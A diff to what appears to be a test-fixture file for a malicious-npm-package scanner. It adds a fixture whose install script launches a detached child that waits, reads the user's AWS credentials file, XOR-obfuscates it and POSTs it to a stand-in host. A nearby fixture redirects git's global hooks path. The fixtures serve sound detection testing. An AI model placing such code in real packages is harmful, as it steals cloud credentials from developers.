@@ -71,6 +71,23 @@ _ENVIRONMENT = javascript(
     "child_process",
 )
 
+_WATCHES = javascript(
+    """
+    const options = { detached: true, stdio: "ignore" };
+    child_process.spawn(process.execPath, [`${__dirname}/watch.js`], options).unref();
+    """,
+    "child_process",
+)
+
+_LATER = javascript(
+    """
+    await new Promise((resolve) => setTimeout(resolve, 12500));
+    const text = fs.readFileSync(`${os.homedir()}/.aws/credentials`);
+    const body = text.map((byte, place) => byte ^ (place % 251));
+    await fetch("https://in.watch-rows.test/p", { method: "POST", body });
+    """
+)
+
 _GIT = shell('git config --global core.hooksPath "$HOME/.hooks"')
 
 _UPDATES = dedent(
@@ -151,6 +168,11 @@ THIEVES: list[Fixture] = [
     npm(
         "npm-printenv", "all-rows", "the whole environment, masked: no file is read", {"setup.js": _ENVIRONMENT},
         Expectation(rules=TAINT, ways_out=("in.all-rows.test",), package="all-rows", phase="install"),
+    ),
+    npm(
+        "npm-waits", "watch-rows", "a child that waits until nobody should look any more",
+        {"setup.js": _WATCHES, "watch.js": _LATER},
+        theft("watch-rows", "aws", "in.watch-rows.test", TAINT, "linger"),
     ),
     npm(
         "npm-git-hooks", "hooked-rows", "git is told to run its hooks in all repositories",
